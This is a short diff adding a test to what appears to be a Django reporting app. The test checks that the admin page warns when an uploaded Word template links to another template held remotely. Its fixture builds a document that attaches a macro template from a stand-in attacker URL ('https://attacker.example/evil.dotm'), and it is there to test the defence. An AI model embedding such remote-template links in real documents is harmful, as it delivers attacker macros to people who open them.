@@ -307,3 +307,12 @@ def test_a_program_run_as_libreoffice_is_run_cannot_connect_anywhere(listener):
         threading.Event().wait(0.02)
     assert len(listener.connections) == 1
 
+
+
+def test_the_administrator_is_told_when_the_template_in_use_is_passed_over(client_for, media):
+    template = DocumentTemplate(name="Old letterhead")
+    template.file.save("old.docx", ContentFile(attached_template("https://attacker.example/evil.dotm")), save=False)
+    template.save()
+    page = client_for("admin").get(reverse("admin:reporting_documenttemplate_changelist")).content.decode()
+    assert "The template in use, “Old letterhead”, is not used: documents are built on the plain default" in page
+    assert "attached to another template, “https://attacker.example/evil.dotm”" in page
